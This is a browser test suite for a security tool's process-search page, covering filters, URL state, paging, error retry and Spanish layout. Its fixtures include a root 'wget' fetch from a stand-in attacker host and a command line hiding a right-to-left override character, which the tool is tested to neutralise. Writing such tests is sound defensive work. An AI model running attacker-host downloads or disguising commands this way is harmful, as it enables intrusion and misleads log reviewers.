import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { FoundProcess } from "@atalaya/wire/api";
import { skipUnless } from "../../tools/testing/needs.ts";
import { makeAlert } from "./canned.ts";
import { PageInBrowser } from "./page-in-browser.ts";

const nowUs = Date.now() * 1_000;

function makeProcess(at: number, of: Partial<FoundProcess> = {}): FoundProcess {
  return {
    time_us: nowUs - at * 60_000_000,
    cluster: "shop",
    node: "node-7",
    boot_id: "0".repeat(32),
    pid: 1_000 + at,
    start_us: at,
    ppid: 1,
    name: "curl",
    exe_path: "/usr/bin/curl",
    cmdline: `curl https://example.org/${at}`,
    container_id: "3f2a".repeat(16),
    uid: 33,
    origin: "image",
    ended_us: nowUs - at * 60_000_000 + 1_500_000,
    ...of,
  };
}

describe("the search of what ran, in a browser", { skip: skipUnless("browser") }, () => {
  const at = new PageInBrowser();
  const rows = '[aria-label="Processes"] > li';

  test("shows what ran with program, user, node, container and its alerts, and is reached by keys", async () => {
    const alert = makeAlert(0);
    at.hub.alerts = [alert];
    at.hub.processes = [
      makeProcess(1, { alerts: [{ alert_id: alert.alert_id, title: alert.title }], origin: "added" }),
      makeProcess(2, { container_id: "host", name: "sshd", exe_path: "/usr/sbin/sshd", cmdline: "sshd -D", uid: 0 }),
    ];
    const page = await at.open("/alerts");
    await page.locator("[data-alert]").first().waitFor();
    await page.keyboard.press("g");
    await page.keyboard.press("p");
    await page.locator(rows).first().waitFor();
    assert.equal(await page.locator(rows).count(), 2);
    const [first, second] = [page.locator(rows).first(), page.locator(rows).nth(1)];
    for (const said of [
      "curl https://example.org/1",
      "uid 33",
      "node-7",
      "3f2a3f2a3f2a",
      "not in the image",
      "ran 1.5 s",
    ])
      await first.getByText(said).waitFor();
    await second.getByRole("button", { name: "host", exact: true }).waitFor();
    await first.getByRole("link").click();
    await page.getByRole("heading", { name: alert.title.en }).waitFor();
    assert.deepEqual(page.complaints, []);
  });

  test("words, field:value and a click on a value narrow it; the address bar keeps the search", async () => {
    at.hub.processes = [
      ...Array.from({ length: 5 }, (_, i) => makeProcess(i)),
      makeProcess(6, { name: "wget", exe_path: "/usr/bin/wget", cmdline: "wget http://evil.example/x", uid: 0 }),
    ];
    const page = await at.open("/processes");
    await page.locator(rows).nth(5).waitFor();
    const box = page.getByRole("textbox", { name: "Search processes" });
    await box.fill("evil");
    await page.waitForURL(/q=evil/);
    await page.waitForFunction((selector) => document.querySelectorAll(selector).length === 1, rows);
    await page.getByRole("button", { name: /words: evil/ }).click();
    await page.waitForFunction((selector) => document.querySelectorAll(selector).length === 6, rows);
    await box.fill("pod:shop/web-1");
    await box.press("Enter");
    await page.waitForURL(/pod=shop%2Fweb-1/);
    await page.getByRole("button", { name: /pod: shop\/web-1/ }).click();
    await box.fill("name:wget user:0");
    await box.press("Enter");
    await page.waitForURL(/name=wget&uid=0/);
    await page.waitForFunction((selector) => document.querySelectorAll(selector).length === 1, rows);
    await page.reload();
    await page.getByText("wget http://evil.example/x").waitFor();
    await page.getByRole("button", { name: /user: 0/ }).click();
    await page.getByRole("button", { name: "wget", exact: true }).waitFor();
  });

  test("a long search says how far it got and goes on; an empty one says so; a failing one can be tried again", async () => {
    at.hub.processes = Array.from({ length: 4 }, (_, i) => makeProcess(i));
    at.hub.processesOnPage = 3;
    const page = await at.open("/processes");
    await page.getByText(/Searched back to/).waitFor();
    await page.getByRole("button", { name: "Search further back" }).click();
    await page.getByText("That is all that is kept.").waitFor();
    assert.equal(await page.locator(rows).count(), 4);
    await page.goto(`${at.address}/processes?q=nothing-like-it`);
    await page.getByText("Nothing like that ran").waitFor();
    at.hub.failing = ["processes"];
    await page.goto(`${at.address}/processes?q=other`);
    const again = page.getByRole("button", { name: /again/i });
    await again.waitFor({ timeout: 15_000 });
    at.hub.failing = [];
    await again.click();
    await page.getByText("Nothing like that ran").waitFor();
  });

  test("a command line that hides characters cannot reorder its row, and the page speaks Spanish at 400 px", async () => {
    at.hub.processes = [
      makeProcess(1, { cmdline: "sh -c \u202etxt.live" }),
      makeProcess(2, { cmdline: "x".repeat(5_000) }),
    ];
    const page = await at.open("/processes", { locale: "es-ES", width: 400, height: 800 });
    await page.getByRole("heading", { name: "Procesos" }).waitFor();
    await page.locator('[aria-label="Procesos"] > li').first().waitFor();
    assert.ok(!((await page.locator('[aria-label="Procesos"]').textContent()) ?? "").includes("\u202e"));
    const beyond = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(beyond <= 0, `${beyond} px too wide`);
  });
});
